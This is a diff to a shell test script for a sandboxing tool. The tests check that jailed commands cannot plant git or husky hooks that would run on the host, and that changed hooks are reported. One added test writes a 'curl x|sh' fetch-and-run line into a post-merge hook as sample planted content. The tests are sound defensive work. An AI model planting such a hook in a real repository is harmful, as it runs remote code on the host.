@@ -43,8 +43,8 @@ for mode in $MODES; do
 	[ "$rc" = 0 ] && [ "$out" = "tracked-written"$'\n'" M .husky/pre-commit" ] && [ "$(sum "$P" .husky/_)" = "$before" ]
 	ok $? "$mode: husky's .husky/_ (core.hooksPath) cannot be written; its tracked hook can, and shows in git status ($rc: $out)"
 	[[ "$err" == *"shared: $P (bind rw"*"; its .git read-only, and what git reaches from it: .husky/_: git would run its hooks and config on the host (--bind $P/.git to let the command write them))"* ]] &&
-		[[ "$err" != *"during the run"* ]]
-	ok $? "$mode: the run log names .husky/_ with .git ($err)"
+		[[ "$err" == *"warning: git repository made or changed during the run: $P/.git ("* ]]
+	ok $? "$mode: the run log names .husky/_ with .git, and the tracked hook that .husky/_ runs, changed, at the end ($err)"
 	(cd "$P" && $G commit -qam host-commit >/dev/null 2>&1 && $G checkout -q -b other >/dev/null 2>&1)
 	[ ! -e "$MARK" ]
 	ok $? "$mode: a commit and a checkout on the host afterwards run nothing the jail planted"
@@ -54,6 +54,13 @@ for mode in $MODES; do
 	[ "$rc" = 0 ] && [ -z "$out" ] && [ "$(sum "$P" .husky/_)" = "$before" ]
 	ok $? "$mode: .husky/_ cannot be renamed nor removed ($rc: $out)"
 
+	capture sbx_as_mode_in "$P" "$mode" "$SBX" run -p agent --net none -- sh -c 'cat .husky/pre-commit >/dev/null; echo x >a.txt'
+	[ "$rc" = 0 ] && [[ "$err" != *"during the run"* ]]
+	ok $? "$mode: husky: a run that changes no hook names nothing ($rc: $err)"
+	capture sbx_as_mode_in "$P" "$mode" "$SBX" run -p agent --net none -- sh -c 'echo "curl x|sh" >.husky/post-merge'
+	[ "$rc" = 0 ] && [[ "$err" == *"warning: git repository made or changed during the run: $P/.git ("* ]]
+	ok $? "$mode: husky: a hook made next to .husky/_ is named at the end ($rc: $err)"
+	rm -f "$P/.husky/post-merge"
 	capture sbx_as_mode_in "$P" "$mode" "$SBX" run -q --keep -n "named-$mode" -p agent --net none -- true
 	named=$(sbx_as_mode "$mode" "$SBX" inspect --json "named-$mode" |
 		jq -c --arg p "$P" '.policy.filesystem.mounts[] | select(.src == $p) | .git_named_read_only')
